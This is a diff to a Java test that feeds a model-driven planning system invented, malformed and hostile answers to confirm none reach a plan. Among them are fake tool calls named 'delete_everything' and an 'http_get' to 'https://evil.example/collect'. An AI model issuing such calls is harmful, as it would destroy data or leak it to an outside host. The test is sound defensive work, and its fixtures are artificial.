@@ -144,6 +144,11 @@ class ClosedWorldTest extends ModelSystems {
             "000000000000000000000000",
             ORDER);
 
+    private static final String INVOICE = "create an invoice in Ledgerly.";
+
+    private static final List<Wish> INVOICE_WISH =
+            List.of(new Wish("create an invoice in Ledgerly", "Ledgerly", "requested", "create sales invoice", ""));
+
     private final Map<String, Set<String>> operations = new HashMap<>();
     private final List<String> ungrounded = new ArrayList<>();
     private int attempts;
@@ -221,24 +226,31 @@ class ClosedWorldTest extends ModelSystems {
         return Answer.structured(Map.of("lines", List.of(line), "forbidden", Arrays.asList(null, operation)));
     }
 
+    /** Goes along with whatever is not under attack. */
+    private static Answer faithful(Asked asked) {
+        return asked.isRestating()
+                ? restated(asked, INVOICE_WISH, List.of())
+                : Answer.structured(Map.of("lines", List.of()));
+    }
+
     @Test
     void nothingThatAModelInventsGetsIntoAPlan() {
         for (Object number : NUMBERS) {
-            Reply made = attempt(PAID_ORDERS, asked -> asked.isSelecting() ? picking(asked, number) : honest(asked));
+            Reply made = attempt(INVOICE, asked -> asked.isSelecting() ? picking(asked, number) : faithful(asked));
             assertThat(made.json().at("/refused").size())
                     .as("refused of %s", number)
                     .isBetween(0, 40);
         }
         for (String text : TEXTS) {
-            attempt(PAID_ORDERS, asked -> asked.isSelecting() ? Answer.structured(text) : honest(asked));
-            attempt(PAID_ORDERS, asked -> Answer.structured(text));
+            attempt(INVOICE, asked -> asked.isSelecting() ? Answer.structured(text) : faithful(asked));
+            attempt(INVOICE, asked -> Answer.structured(text));
         }
         for (Object system : SYSTEMS) {
             attempt(
                     PAID_ORDERS,
                     asked -> asked.isRestating()
                             ? restating(asked, system, "create sales invoice")
-                            : asked.isSelecting() ? picking(asked, 1) : honest(asked));
+                            : asked.isSelecting() ? picking(asked, 1) : faithful(asked));
         }
         for (int cut : List.of(1, 10, 40, 90, 150)) {
             attempt(
@@ -247,11 +259,11 @@ class ClosedWorldTest extends ModelSystems {
                             "{\"lines\": [{\"line\": 1, \"verdict\": \"chosen\", \"operations\": [1]}]}", cut));
         }
         for (String tool : List.of("delete_everything", "call", "http_get", "http://evil.example", "answer ", "")) {
-            attempt(PAID_ORDERS, asked -> Answer.tools(tool, "{\"url\":\"https://evil.example/collect\"}"));
-            attempt(PAID_ORDERS, asked -> asked.isSelecting() ? Answer.tools(tool, "no json") : honest(asked));
+            attempt(INVOICE, asked -> Answer.tools(tool, "{\"url\":\"https://evil.example/collect\"}"));
+            attempt(INVOICE, asked -> asked.isSelecting() ? Answer.tools(tool, "no json") : faithful(asked));
         }
         Random random = new Random(7);
-        for (int i = 0; i < 40; i++) {
+        for (int i = 0; i < 60; i++) {
             attempt(
                     PAID_ORDERS,
                     asked -> asked.isSelecting()
